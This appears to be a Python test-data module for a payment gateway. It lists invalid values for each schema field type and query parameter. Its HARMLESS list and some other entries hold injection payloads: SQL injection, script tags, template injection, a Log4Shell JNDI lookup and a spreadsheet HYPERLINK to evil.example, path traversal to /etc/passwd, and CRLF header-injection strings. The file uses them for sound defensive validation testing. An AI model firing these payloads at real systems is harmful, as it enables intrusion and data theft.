"""What is wrong for each type of field, and what only looks dangerous.

Chosen by the schema's own field types, so that a new field is tried as soon as it is declared.
"""

from collections.abc import Iterator
from typing import Any

from marshmallow import Schema, fields

from gateway.callbacks.feed_schemas import SequenceNumber, TypeNames
from gateway.kernel.fields import Flag, Instant, Limit, Metadata, Text
from gateway.kernel.money import MAX_AMOUNT, Currency

COMBINING = "e" + "\u0301" * 8_000

NOT_A_NUMBER = [
    *(True, False, "100", "", "1e2", "１２３", "1_000", "0x10", " 1", "1\n", "NaN"),  # noqa: RUF001
    *(100.0, 1e2, 19.99, 100.5, -0.0, 1e308, 0.1, [100], {"value": 100}, [], {}),
]
OUT_OF_RANGE = [0, -1, MAX_AMOUNT + 1, 2**31, 2**32 + 1, 2**63, -(2**63) - 1, 2**64, 10**30]
NOT_A_CURRENCY = [
    *("", "US", "usdd", "XXX", "u$d", "USD ", " USD", "USD\n", "US\u0000", "\ud800SD", "U\u0301SD"),
    *("ＵＳＤ", "uſd", "ıNR", "€", "BTC", "eur,usd", COMBINING),  # noqa: RUF001 - the point
]
NOT_TEXT = [5, 0, 1.5, True, False, [], {}, ["a"], {"a": "b"}, [None], 10**39]
UNPRINTABLE = [
    *("\u0000", "a\u0000b", "a\r\nSet-Cookie: x=y", "a\nBcc: all@b.example", "\t", "\u001b[31m"),
    *("\u007f", "\u0085", "\u009b31m", "\ud800", "\udfff", "a\udc00\ud800b", ""),
]
NOT_METADATA = [
    *([], "a=b", 5, True, [["a", "b"]], {"a": 1}, {"a": None}, {"a": True}, {"a": ["b"]}),
    *({"a": {"b": "c"}}, {"a": 1e308}, {"a\u0000": "b"}, {"a": "\u0000"}, {"a": "b\r\nc"}),
    *({"\ud800": "a"}, {"a": "\udfff"}, {"": "a"}, {"k" * 41: "a"}, {"a": "v" * 501}),
    *({f"k{n}": "" for n in range(51)}, {f"k{n}": "" for n in range(5_000)}, {"a": COMBINING}),
]
NOT_A_BOOLEAN = ["true", "false", "", 0, 1, 1.0, "yes", "on", [], {}, [True]]
NOT_AN_INSTANT = [
    *(
        0,
        1769851800,
        True,
        [],
        {},
        "",
        "now",
        "2h",
        "2026-01-31",
        "2026-01-31T09:30:00",
        "09:30:00Z",
    ),
    *("2026-01-31 09:30:00Z", "2026-01-31T09:30Z", "2026-01-31t09:30:00z", "2026-1-31T9:30:00Z"),
    *(
        "2026-02-30T00:00:00Z",
        "2026-13-01T00:00:00Z",
        "2026-01-31T24:00:00Z",
        "2026-W05-6T00:00:00Z",
    ),
    *("2026-01-31T09:30:60Z", "2026-01-31T09:30:00.1234567Z", "2026-01-31T09:30:00+24:00"),
    *("2026-01-31T09:30:00Z ", "2026-01-31T09:30:00Z\n", "２０２６-01-31T09:30:00Z", "\u0000"),  # noqa: RUF001
    *(
        "0000-01-01T00:00:00Z",
        "10000-01-01T00:00:00Z",
        "-2026-01-31T09:30:00Z",
        "infinity",
        COMBINING,
    ),
]
NOT_A_LIST = [5, True, "", "a", {}, {"0": "a"}, [None], [[]], [5], [True], [{"a": 1}] * 2_000]

# Nothing here is dangerous where it is kept and shown as text; and it has to come back as it was.
HARMLESS = [
    *("'; DROP TABLE orders; --", '" OR 1=1 --', "<script>alert(1)</script>", "{{7*7}}", "${7*7}"),
    *("${jndi:ldap://evil.example/a}", '=HYPERLINK("http://evil.example")', "@SUM(1+1)", "%s%n"),
    *("../../etc/passwd", "\\u0000", "\\", "a\u202eb", "a\u200bb", "\ufeffa", "\u2028", "раураl"),  # noqa: RUF001
    *("e\u0301", "\u00e9", "ﷺ", "👩‍🚀", "\U0010ffff", "\ufffe", "null", "undefined", "true", " "),
]


def wrong(field: Any) -> list[Any]:
    """What a field of this kind has to refuse."""
    found: list[Any] = [] if field.allow_none else [None]
    if isinstance(field, Currency):
        return found + NOT_TEXT + NOT_A_CURRENCY
    if isinstance(field, Flag):
        return found + NOT_A_BOOLEAN
    if isinstance(field, Instant):
        return found + NOT_AN_INSTANT
    if isinstance(field, fields.Integer):
        beyond = OUT_OF_RANGE[1:] if getattr(field, "minimum", 1) == 0 else OUT_OF_RANGE
        return found + NOT_A_NUMBER + beyond
    if isinstance(field, fields.String):
        return found + NOT_TEXT + UNPRINTABLE + ["x" * (longest(field) + 1), COMBINING]
    if isinstance(field, Metadata):
        return found + NOT_METADATA
    if isinstance(field, fields.List):
        return found + NOT_A_LIST
    raise NotImplementedError(f"Say here what is wrong for a {type(field).__name__}.")


def longest(field: Any) -> int:
    return int(getattr(field, "longest", 10_000))


def all_fields(schema: Schema) -> Iterator[tuple[str, Any]]:
    """(path, field) of all that can be sent, also inside lists."""
    for name, field in schema.fields.items():
        yield name, field
        if isinstance(field, fields.List):
            inner = field.inner
            if isinstance(inner, fields.Nested):
                for below, kind in all_fields(inner.schema):
                    yield f"{name}[0].{below}", kind
            else:
                yield f"{name}[0]", inner


def put(path: str, value: Any) -> Any:
    """{"items": [{"name": value}]} for `items[0].name`."""
    name, dot, below = path.partition(".")
    inner = put(below, value) if dot else value
    return {name.removesuffix("[0]"): [inner] if name.endswith("[0]") else inner}


def is_free_text(field: Any) -> bool:
    return type(field) is Text and field.pattern is None


def wrong_query(field: Any) -> list[str]:
    """What a query parameter of this kind has to refuse, as it stands in an address."""
    if isinstance(field, Limit):
        numbers = ("0", "-1", "101", "abc", "", "1.5", "1e1", "9" * 20, "9" * 5000, "true", "%00")
        return [*numbers, "1_0", "+5", "%EF%BC%91%EF%BC%90", "%20", "0x10", "10%0a", "%ff", "007x"]
    if isinstance(field, SequenceNumber):
        return ["-1", "-0", "", "abc", "1.5", "1e1", str(2**63), "9" * 5000, "%00", "+1", "%D9%A1"]
    if isinstance(field, TypeNames):
        ones = ["*", "order", "order.paid", "ORDER.CREATED", "order.created%00", "%20order.created"]
        lists = [
            ",",
            "order.created,",
            ",order.created",
            "order.created,,order.updated",
            "a," * 999,
        ]
        return ["", *ones, *lists, "order.created,order.paid", "order.created;order.updated"]
    assert isinstance(field, Text), f"Say here what is wrong for a {type(field).__name__}."
    return ["", "%00", "a%00", "%0d%0a", "%7f", "%1b", "x" * (field.longest + 1), "x" * 5000]
